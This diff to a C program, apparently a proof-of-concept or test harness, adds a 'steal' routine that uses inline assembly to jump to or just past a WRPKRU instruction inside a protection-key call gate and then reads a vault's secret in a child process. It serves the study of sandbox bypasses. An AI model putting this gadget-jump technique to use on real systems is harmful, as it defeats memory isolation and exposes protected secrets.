@@ -24,6 +24,21 @@ static const uint8_t *gate_of(const uint8_t *entry, uint32_t *id)
     return gate;
 }
 
+struct jump {
+    const uint8_t *target;
+    uint32_t id;
+    struct vault_cell *cell;
+};
+
+static const volatile uint8_t *steal(void *arg)
+{
+    struct jump *j = arg;
+    __asm__ volatile("mov %1, %%r11d\n xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n"
+                     "mov $0, %%edi\n call *%0"
+                     ::"r"(j->target), "r"(j->id) : "rax", "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "memory");
+    return j->cell->secret;
+}
+
 int main(int argc, char **argv)
 {
     vault_open();
@@ -37,9 +52,6 @@ int main(int argc, char **argv)
             wrpkru = gate + i;
     if (!wrpkru)
         blocked("no WRPKRU in the gate");
-    const uint8_t *target = argc > 1 && strcmp(argv[1], "past") == 0 ? wrpkru + 3 : wrpkru;
-    __asm__ volatile("mov %1, %%r11d\n xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n"
-                     "mov $0, %%edi\n call *%0"
-                     ::"r"(target), "r"(id) : "rax", "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "memory");
-    read_secret_at(VAULT_DATA, vault_address(VAULT_DATA)->secret);
+    struct jump j = {argc > 1 && strcmp(argv[1], "past") == 0 ? wrpkru + 3 : wrpkru, id, vault_address(VAULT_DATA)};
+    steal_in_child(steal, &j);
 }
